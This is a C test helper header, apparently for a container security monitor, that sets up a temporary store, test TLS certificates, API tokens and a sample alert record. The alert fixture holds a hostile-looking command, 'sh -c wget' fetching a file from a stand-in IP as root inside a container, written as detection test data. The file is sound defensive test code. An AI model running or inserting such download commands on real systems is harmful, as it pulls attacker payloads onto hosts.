/* people.h - what the tests of alert, notify, api and ctl share: a store in a folder of its own, a
 * finding as the agent sends it, certificates made here. */
#pragma once
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <sys/stat.h>

#include <cmocka.h>

#include "collector/store/store.h"
#include "common/file.h"
#include "common/tls.h"

#define MUST(call)                                                                                 \
	do {                                                                                       \
		struct err *must_err_ = &must_err;                                                 \
		if ((call) < 0)                                                                    \
			fail_msg("%s: %s", #call, must_err_->msg);                                 \
	} while (0)
static struct err must_err;

struct people {
	char dir[64];
	struct clock clk;
	struct store *store;
};

static inline void people_open(struct people *p)
{
	struct store_config cfg = { .dir = p->dir };

	snprintf(p->dir, sizeof(p->dir), "/tmp/picket-test-XXXXXX");
	assert_non_null(mkdtemp(p->dir));
	p->clk = *clock_real();
	MUST(store_open(&cfg, &p->clk, &p->store, &must_err));
}

static inline void people_close(struct people *p)
{
	char command[128];

	store_close(p->store);
	snprintf(command, sizeof(command), "rm -rf '%s'", p->dir);
	assert_int_equal(system(command), 0);
}

/* A test's setup and teardown. */
static inline int people_setup(void **state)
{
	static struct people p;

	people_open(&p);
	*state = &p;
	return 0;
}

static inline int people_teardown(void **state)
{
	people_close(*state);
	return 0;
}

static inline ProtobufCBinaryData people_bytes(const char *s)
{
	return msg_bytes(slice_of(s));
}

/* A finding and all it points to; fields may be changed before it is used. */
struct people_finding {
	Picket__Record record;
	Picket__Finding finding;
	Picket__Process process;
	Picket__Container container;
	Picket__Ancestor parent;
	Picket__Ancestor *ancestors[1];
	Picket__Finding__FieldsEntry field;
	Picket__Finding__FieldsEntry *fields[1];
	char *tags[2];
};

static inline void people_finding(struct people_finding *f, uint64_t time_unix_ns)
{
	static char rule[] = "Download tool in container", priority[] = "Error",
		    output[] = "wget ran in web-1", id[] = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
		    digest[] = "sha256:aaaa", tag[] = "T1105", tag2[] = "container", key[] = "proc.name",
		    why[] = "Containers seldom need a download tool; attackers do.", source[] = "syscall";

	*f = (struct people_finding){ .record = PICKET__RECORD__INIT, .finding = PICKET__FINDING__INIT,
				      .process = PICKET__PROCESS__INIT, .container = PICKET__CONTAINER__INIT,
				      .parent = PICKET__ANCESTOR__INIT,
				      .field = PICKET__FINDING__FIELDS_ENTRY__INIT };
	f->parent.pid = 41;
	f->parent.name = people_bytes("sh");
	f->parent.exe = people_bytes("/bin/dash");
	f->parent.cmdline = people_bytes("sh -c wget http://203.0.113.9/x");
	f->ancestors[0] = &f->parent;
	f->process.pid = 42;
	f->process.ppid = 41;
	f->process.name = people_bytes("wget");
	f->process.exe = people_bytes("/usr/bin/wget");
	f->process.args = msg_bytes(SLICE_LIT("-q\0http://203.0.113.9/x\0"));
	f->process.user = people_bytes("root");
	f->process.n_ancestors = 1;
	f->process.ancestors = f->ancestors;
	f->container.id = id;
	f->container.name = people_bytes("web-1");
	f->container.image = people_bytes("nginx:1.25");
	f->container.image_digest = digest;
	f->field.key = key;
	f->field.value = people_bytes("wget");
	f->fields[0] = &f->field;
	f->tags[0] = tag;
	f->tags[1] = tag2;
	f->finding.rule = rule;
	f->finding.priority = priority;
	f->finding.output = output;
	f->finding.description = why;
	f->finding.source = source;
	f->finding.n_tags = 2;
	f->finding.tags = f->tags;
	f->finding.n_fields = 1;
	f->finding.fields = f->fields;
	f->finding.event_type = PICKET__EVENT_TYPE__EVENT_EXEC;
	f->finding.process = &f->process;
	f->finding.container = &f->container;
	f->finding.event_seq = 7;
	f->record.time_unix_ns = time_unix_ns;
	f->record.body_case = PICKET__RECORD__BODY_FINDING;
	f->record.finding = &f->finding;
}

/* ca.pem, server.pem, server.key for 127.0.0.1 in the folder. */
static inline void people_certificates(const char *dir)
{
	static const char *const names[] = { "localhost", "127.0.0.1", NULL };
	struct tls_sign how = { .role = TLS_ROLE_SERVER, .common_name = "localhost", .alt_names = names,
				.valid_from_s = -3600, .valid_for_s = 86400 };
	struct buf ca_key, ca, key, csr, cert;
	char path[128];

	MUST(tls_key_new(&ca_key, &must_err));
	MUST(tls_ca_new(buf_slice(&ca_key), "test CA", 1, clock_real(), &ca, &must_err));
	MUST(tls_key_new(&key, &must_err));
	MUST(tls_csr_new(buf_slice(&key), "localhost", &csr, &must_err));
	MUST(tls_sign(buf_slice(&ca), buf_slice(&ca_key), buf_slice(&csr), &how, clock_real(), &cert, NULL,
		      &must_err));
	const struct {
		const char *name;
		struct buf *b;
	} files[] = { { "ca.pem", &ca }, { "server.pem", &cert }, { "server.key", &key } };
	for (size_t i = 0; i < ARRAY_LEN(files); i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, files[i].name);
		MUST(file_write_atomic(path, buf_slice(files[i].b), 0600, &must_err));
	}
	buf_fini(&ca_key);
	buf_fini(&ca);
	buf_fini(&key);
	buf_fini(&csr);
	buf_fini(&cert);
}

static inline void people_token(struct store *s, const char *token, const char *user, const char *role)
{
	uint8_t hash[32];

	tls_sha256(slice_of(token), hash);
	MUST(store_api_token_add(s, hash, user, role, 0, &must_err));
}
